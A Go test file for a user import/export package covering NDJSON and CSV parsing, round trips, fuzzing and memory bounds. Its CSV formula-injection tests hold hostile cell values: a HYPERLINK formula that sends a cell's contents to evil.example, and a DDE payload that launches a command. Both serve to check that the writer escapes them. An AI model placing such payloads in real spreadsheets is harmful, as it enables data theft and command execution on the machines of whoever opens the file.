package userfile

import (
	"bytes"
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"usher"
)

// readAll reads every record, collecting the line errors.
func readAll(t *testing.T, text string, f Format) ([]usher.ImportUser, []int, map[int]string) {
	t.Helper()
	r, err := NewReader(strings.NewReader(text), f)
	if err != nil {
		t.Fatal(err)
	}
	var users []usher.ImportUser
	var lines []int
	bad := map[int]string{}
	for {
		u, line, err := r.Next()
		var le *LineError
		switch {
		case err == io.EOF:
			return users, lines, bad
		case errors.As(err, &le):
			bad[le.Line] = le.Err.Error()
			continue
		case err != nil:
			t.Fatal(err)
		}
		users, lines = append(users, u), append(lines, line)
	}
}

func TestNDJSON(t *testing.T) {
	t.Parallel()
	text := `{"username":"alice","email":"alice@example.com","name":"Alice","password_hash":"$2b$10$x","external_id":"e1","state":"blocked","admin":true,"metadata":{"team":"a"},"ssh_keys":[{"title":"laptop","key":"ssh-ed25519 AAAA"}],"emails":["a@work.example"]}

{"username":"bob"}
{"username":"carol","nickname":"c"}
{"username":"dave","admin":"yes"}
{"username":"eve"} {"username":"eve2"}
{"name":"Nobody"}
{"username":"frank","name":"` + "\xff" + `"}
[1,2]
{"username":"grace"}
{"username":"heidi","na`
	users, lines, bad := readAll(t, text, NDJSON)
	var names []string
	for _, u := range users {
		names = append(names, u.Username)
	}
	if strings.Join(names, " ") != "alice bob grace" || lines[0] != 1 || lines[1] != 3 || lines[2] != 10 {
		t.Fatalf("read %v on lines %v", names, lines)
	}
	a := users[0]
	if a.Email != "alice@example.com" || a.PasswordHash != "$2b$10$x" || a.ExternalID != "e1" || a.State != usher.StateBlocked ||
		!a.Admin || a.Metadata["team"] != "a" || len(a.SSHKeys) != 1 || a.SSHKeys[0].Title != "laptop" || a.Emails[0] != "a@work.example" {
		t.Fatalf("alice: %+v", a)
	}
	want := map[int]string{4: "unknown field", 5: "admin", 6: "more than one", 7: "username: is missing", 8: "UTF-8", 9: "JSON object", 11: "cut short"}
	for line, frag := range want {
		if !strings.Contains(bad[line], frag) {
			t.Errorf("line %d: %q, want it to mention %q", line, bad[line], frag)
		}
	}
	if len(bad) != len(want) {
		t.Errorf("bad lines %v", bad)
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	text := "username,email,admin,ssh_keys,emails,metadata\n" +
		"alice,alice@example.com,true,\"ssh-ed25519 AAAA one\nssh-rsa BBBB two\",\"a@work.example\n a@home.example \",\"{\"\"k\"\":\"\"v\"\"}\"\n" +
		"bob,,,,,\n" +
		"carol,c@example.com,maybe,,,\n" +
		"dave,d@example.com\n" +
		",,,,,\n" +
		"erin,e@example.com,,,,\"{not json\"\n" +
		"gina,g@example.com,,\"expiry-time=\"\"tomorrow\"\" ssh-ed25519 AAAA\",,\n" +
		"hal,h@example.com,,\"expiry-time=\"\"20270101000000.5Z\"\" ssh-ed25519 AAAA\",,\n" +
		"frank,\"f@example.com,,,,\n"
	users, _, bad := readAll(t, text, CSV)
	if len(users) != 2 || users[0].Username != "alice" || users[1].Username != "bob" {
		t.Fatalf("read %+v", users)
	}
	a := users[0]
	if !a.Admin || len(a.SSHKeys) != 2 || a.SSHKeys[1].Key != "ssh-rsa BBBB two" || len(a.Emails) != 2 || a.Emails[1] != "a@home.example" || a.Metadata["k"] != "v" {
		t.Fatalf("alice: %+v", a)
	}
	// alice spans lines 2 to 4: two of her cells hold a line break.
	want := map[int]string{6: "admin", 7: "2 columns", 8: "username", 9: "metadata", 10: "expiry-time", 11: "expiry-time", 12: "quote"}
	for line, frag := range want {
		if !strings.Contains(bad[line], frag) {
			t.Errorf("line %d: %q, want it to mention %q", line, bad[line], frag)
		}
	}
	for _, header := range []string{"username,colour\n", "email\n", "username,username\n", ""} {
		if _, err := NewReader(strings.NewReader(header), CSV); err == nil {
			t.Errorf("header %q accepted", header)
		}
	}
}

// TestRoundTrip: what the writer writes, the reader reads back the same,
// in both formats; of the secondary addresses, the proved ones, for the
// import confirms every address it adds.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	now := time.Now()
	in := []*usher.ExportUser{
		{User: &usher.User{Username: "alice", Email: "alice@example.com", EmailConfirmedAt: &now, Name: "Alice, \"the\" first",
			FirstName: "Alice", LastName: "First", DisplayName: "Al", ExternalID: "e1", State: usher.StateSuspended,
			Kind: usher.KindBot, Admin: true, External: true, Metadata: map[string]string{"a": "b,c"},
			GitLab: usher.GitLabProfile{Skype: "al.sk", Twitter: "@al", ProjectsLimit: 7, ThemeID: 2, ColorSchemeID: 3}},
			PasswordHash: "$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$a2V5",
			SSHKeys:      []*usher.SSHKey{{Title: "t", Key: "ssh-ed25519 AAAA c"}},
			Emails: []*usher.Email{{Email: "a@work.example", ConfirmedAt: &now}, {Email: "ceo@corp.example"},
				{Email: "a@home.example", ConfirmedAt: &now}}},
		{User: &usher.User{Username: "bob", State: usher.StateActive, Kind: usher.KindNormal}},
	}
	for _, f := range []Format{NDJSON, CSV} {
		var buf bytes.Buffer
		w, err := NewWriter(&buf, f)
		if err != nil {
			t.Fatal(err)
		}
		for _, u := range in {
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		users, _, bad := readAll(t, buf.String(), f)
		if len(bad) > 0 || len(users) != 2 {
			t.Fatalf("%s: read back %d users, errors %v\n%s", f, len(users), bad, buf.String())
		}
		a := users[0]
		if a.Username != "alice" || a.Name != `Alice, "the" first` || !a.EmailConfirmed || a.PasswordHash != in[0].PasswordHash ||
			a.State != usher.StateSuspended || a.Kind != usher.KindBot || !a.Admin || !a.External || a.Metadata["a"] != "b,c" ||
			len(a.SSHKeys) != 1 || a.SSHKeys[0].Key != "ssh-ed25519 AAAA c" || a.DisplayName != "Al" ||
			strings.Join(a.Emails, " ") != "a@work.example a@home.example" || users[1].External {
			t.Fatalf("%s: alice came back as %+v", f, a)
		}
		// The GitLab profile goes through NDJSON whole, including a false
		// can_create_group; CSV has columns for what bounds what the user
		// makes, can_create_group and projects_limit, and no others.
		g := a.GitLab
		if f == NDJSON && (g.Skype == nil || *g.Skype != "al.sk" || g.Twitter == nil || *g.Twitter != "@al" ||
			g.ProjectsLimit == nil || *g.ProjectsLimit != 7 || g.CanCreateGroup == nil || *g.CanCreateGroup ||
			g.ThemeID == nil || *g.ThemeID != 2 || g.ColorSchemeID == nil || *g.ColorSchemeID != 3) {
			t.Fatalf("%s: alice's GitLab profile came back as %+v\n%s", f, g, buf.String())
		}
		if f == CSV && (g.CanCreateGroup == nil || *g.CanCreateGroup || g.ProjectsLimit == nil || *g.ProjectsLimit != 7 ||
			g.Skype != nil || g.Twitter != nil || g.ThemeID != nil || g.ColorSchemeID != nil || a.Plan != "" || users[1].Plan != "") {
			t.Fatalf("CSV read a GitLab profile %+v, plan %q", g, a.Plan)
		}
	}
}

func TestFormatFor(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ named, path, want string }{
		{"", "users.csv", "csv"}, {"", "users.ndjson", "ndjson"}, {"", "-", "ndjson"}, {"csv", "x.ndjson", "csv"}, {"jsonl", "", "ndjson"},
	} {
		if f, err := FormatFor(tt.named, tt.path); err != nil || string(f) != tt.want {
			t.Errorf("FormatFor(%q, %q) = %s, %v", tt.named, tt.path, f, err)
		}
	}
	if _, err := FormatFor("xml", ""); err == nil {
		t.Error("xml accepted")
	}
}

// FuzzReader: no input makes the reader panic or loop, in either format.
func FuzzReader(f *testing.F) {
	f.Add([]byte(`{"username":"a","ssh_keys":[{"key":"k"}]}`+"\n{"), true)
	f.Add([]byte("username,email\na,\"b\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, ndjson bool) {
		format := CSV
		if ndjson {
			format = NDJSON
		}
		r, err := NewReader(bytes.NewReader(data), format)
		if err != nil {
			return
		}
		for range len(data) + 2 {
			_, _, err := r.Next()
			var le *LineError
			if err != nil && !errors.As(err, &le) {
				return
			}
		}
		t.Fatalf("more records than bytes in %q", data)
	})
}

// TestCSVCellsRunNoFormula: a value a spreadsheet would run as a formula
// (or one it strips a tab or a carriage return from first) is written with
// a quote before it, and read back as it was; so is one that starts with a
// quote. Others are written as they are.
func TestCSVCellsRunNoFormula(t *testing.T) {
	t.Parallel()
	tests := []struct{ value, cell string }{
		{`=HYPERLINK("https://evil.example/?h="&H3,"Click")`, `'=HYPERLINK("https://evil.example/?h="&H3,"Click")`},
		{"+1-555", "'+1-555"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "''=1"},
		{"'", "''"},
		{"O'Brien", "O'Brien"},
		{"a=b", "a=b"},
		{"", ""},
		{"$argon2id$v=19", "$argon2id$v=19"},
	}
	for _, tt := range tests {
		if got := toCell(tt.value); got != tt.cell {
			t.Errorf("toCell(%q) = %q, want %q", tt.value, got, tt.cell)
		}
		if got := fromCell(tt.cell); got != tt.value {
			t.Errorf("fromCell(%q) = %q, want %q", tt.cell, got, tt.value)
		}
	}
	// Through a whole file: every text column.
	now := time.Now()
	evil := "=cmd|' /C calc'!A0"
	var buf bytes.Buffer
	w, err := NewWriter(&buf, CSV)
	if err != nil {
		t.Fatal(err)
	}
	u := &usher.ExportUser{User: &usher.User{Username: "mallory", Email: "-x@evil.example", Name: evil, FirstName: evil,
		LastName: "+" + evil, DisplayName: "@" + evil, ExternalID: evil, State: usher.StateActive, Kind: usher.KindNormal},
		Emails: []*usher.Email{{Email: "=y@evil.example", ConfirmedAt: &now}}}
	if err := w.Write(u); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), ",=") || strings.Contains(buf.String(), ",+") || strings.Contains(buf.String(), ",@") ||
		strings.Contains(buf.String(), ",-") || strings.Contains(buf.String(), `,"=`) {
		t.Fatalf("a cell starts a formula:\n%s", buf.String())
	}
	users, _, bad := readAll(t, buf.String(), CSV)
	if len(bad) > 0 || len(users) != 1 {
		t.Fatalf("read back %d users, errors %v", len(users), bad)
	}
	got := users[0]
	if got.Email != u.User.Email || got.Name != evil || got.FirstName != evil || got.LastName != u.User.LastName ||
		got.DisplayName != u.User.DisplayName || got.ExternalID != evil || len(got.Emails) != 1 || got.Emails[0] != "=y@evil.example" {
		t.Fatalf("came back as %+v", got)
	}
}

// FuzzCSVCell: every value comes back from its cell as it was, and no cell
// starts with what a spreadsheet runs.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1", "'", "''=", "a", "", "\t", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		cell := toCell(v)
		if cell != "" && strings.IndexByte(formulaStart, cell[0]) >= 0 {
			t.Fatalf("toCell(%q) = %q starts a formula", v, cell)
		}
		if back := fromCell(cell); back != v {
			t.Fatalf("fromCell(toCell(%q)) = %q", v, back)
		}
	})
}

// TestCSVRecordBounded: encoding/csv holds a whole record, every field of
// it, before the reader can refuse it, and CSV had no bound on a record:
// a row of millions of commas (empty fields) took 145 times its size in
// memory. A record is bounded as an NDJSON line is, and one past it ends
// the reading, whose end no one can know without reading it.
func TestCSVRecordBounded(t *testing.T) {
	// Not parallel: the memory counted is the process's.
	file := "username\nfirst\n" + strings.Repeat(",", 6<<20) + "\nlast\n"
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	r, err := NewReader(strings.NewReader(file), CSV)
	if err != nil {
		t.Fatal(err)
	}
	if u, _, err := r.Next(); err != nil || u.Username != "first" {
		t.Fatalf("the first record: %+v, %v", u, err)
	}
	_, _, err = r.Next()
	runtime.ReadMemStats(&after)
	var line *LineError
	if err == nil || errors.As(err, &line) || !strings.Contains(err.Error(), "longer than") {
		t.Errorf("a record of 6 Mi commas: %v, want the reading ended", err)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 300<<20 {
		t.Errorf("reading a file of %d bytes allocated %d MiB", len(file), alloc>>20)
	}
}
